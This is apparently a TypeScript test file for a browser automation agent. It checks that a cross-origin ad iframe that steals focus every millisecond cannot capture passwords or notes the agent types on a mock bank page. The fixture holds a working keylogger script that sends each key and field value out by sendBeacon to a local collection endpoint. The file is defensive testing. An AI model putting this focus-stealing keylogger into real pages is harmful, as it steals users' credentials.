// A frame of another site takes the focus every millisecond to get what is typed into the page around it.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Agent, BrowserStage } from '../browser/stage.ts';

const bank = (frame: string) => `<!doctype html><title>Bank</title><h1>Sign in</h1>
<label>Password <input id="password" type="password"></label><label>Note <input id="note"></label>
<iframe ${frame} width="300" height="60"></iframe>`;

/** Sends every key and text that it gets. */
const ad = (home: string) => `<!doctype html><title>Ad</title><input id="field" style="opacity: .01"><script>
for (const type of ['keydown', 'beforeinput', 'input'])
  addEventListener(type, (event) => navigator.sendBeacon('${home}/stolen', [type, event.key ?? event.data, field.value].join(' ')), true);
setInterval(() => field.focus(), 1);</script>`;

/** To be called in a `describe`. */
export function frameThatTakesFocus(engine: 'chromium' | 'firefox', tries: number): void {
  const stolen: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === '/stolen') {
      request.setEncoding('utf8').on('data', (what: string) => stolen.push(what));
      request.on('end', () => response.end());
      return;
    }
    const other = `http://localhost:${(server.address() as AddressInfo).port}`;
    const pages: Readonly<Record<string, string>> = {
      '/ad': ad(other),
      '/bank': bank(`src="${other}/ad"`),
      // Words of a stranger that a site shows in a frame without rights, whose address is not another's.
      '/mail': bank(`sandbox="allow-scripts" srcdoc="${ad(other).replaceAll('"', '&quot;')}"`),
      '/shared': bank(`sandbox="allow-scripts" src="/ad"`),
    };
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(pages[request.url ?? '']);
  });
  const at = (path: string) => `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`;
  let stage: BrowserStage;
  let agent: Agent;

  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, resolve));
    stage = await BrowserStage.open(engine);
    agent = await stage.agent();
    await agent.goTo(at('/bank'));
  });

  afterAll(async () => {
    await stage?.close();
    server.close();
    server.closeAllConnections();
  });

  it(`gets nothing of ${tries} typed secrets, which all go into their fields`, async () => {
    for (let n = 0; n < tries; n += 1) {
      const [name, id] = n % 2 === 0 ? ['Password', 'password'] : ['Note', 'note'];
      const { facts } = await agent.call('type', { ref: agent.ref(name), text: `secret-${n}` });
      expect(facts).toMatchObject({ target: expect.stringContaining(name) });
      expect(await agent.value(`document.getElementById('${id}').value`)).toBe(`secret-${n}`);
    }
    expect(stolen).toEqual([]);
  }, 120_000);

  it('gets no key and nothing of a form', async () => {
    for (let at = 0; at < 20; at += 1) {
      const fields = [
        { ref: agent.ref('Password'), value: `filled-${at}` },
        { ref: agent.ref('Note'), value: `note-${at}` },
      ];
      await agent.call('fill_form', { fields });
      expect(await agent.value('[password.value, note.value]')).toEqual([`filled-${at}`, `note-${at}`]);
      const pressed = await agent.call('press_key', { ref: agent.ref('Note'), key: at % 2 === 0 ? 'x' : 'Backspace' });
      if (engine === 'chromium' && at % 2 === 0) expect(pressed.text).toContain('a frame of another site in this tab');
    }
    expect(stolen).toEqual([]);
  }, 120_000);

  it.each(['/mail', '/shared'])('gets nothing either where it is sandboxed, at %s', async (path) => {
    await agent.goTo(at(path));
    for (let n = 0; n < 5; n += 1) {
      await agent.call('type', { ref: agent.ref('Note'), text: `secret-${n}` });
      await agent.call('press_key', { ref: agent.ref('Note'), key: 'x' });
      expect(await agent.value('note.value')).toBe(`secret-${n}x`);
    }
    // A key without a ref does not follow the focus into the frame.
    await agent.call('press_key', { key: 'x' }).catch(() => {});
    expect(stolen).toEqual([]);
  });
}
